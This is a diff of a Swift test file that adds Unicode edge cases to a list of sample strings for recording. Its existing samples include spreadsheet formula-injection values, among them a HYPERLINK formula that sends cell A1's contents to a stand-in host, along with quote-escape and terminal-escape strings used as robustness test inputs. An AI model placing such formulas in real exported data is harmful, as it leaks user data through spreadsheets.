@@ -1,5 +1,6 @@
 import PolicyRules
 import Records
+import TestSupport
 import Training
 
 /// Values to record, made from random numbers.
@@ -15,6 +16,7 @@ struct Samples {
     "NA", "None", "=HYPERLINK(\"http://e/?\"&A1,\"x\")", "+1 555 0100", "-", "@home", "＝1+1",
     "x\";=1+1", "'=1+1", "a;b", ";", ";\u{301}", "\\\u{301}u{41}", ",\u{301}\"\u{301}", ";;", "👩‍👩‍👧",
     "Jose\u{301}", "José", "a\u{a0}b", "عربي",
+    "a\u{ad}b", "a\u{34f}b", "a\u{200d}b", "\u{3164}", "❤️", "a\u{fe0f}", "\u{10ffff}",
     "a\u{202e}b", "\u{feff}", "a\u{feff}b", "\u{1b}[31mred", "\0", "a\0b", "\u{85}", "\u{2028}",
     "\\", "\\n", "\\u{41}", "\\u{", "\\u{}", "C:\\users", "{\"a\":1}", "`x`", "字",
     String(repeating: "x", count: 40_000),
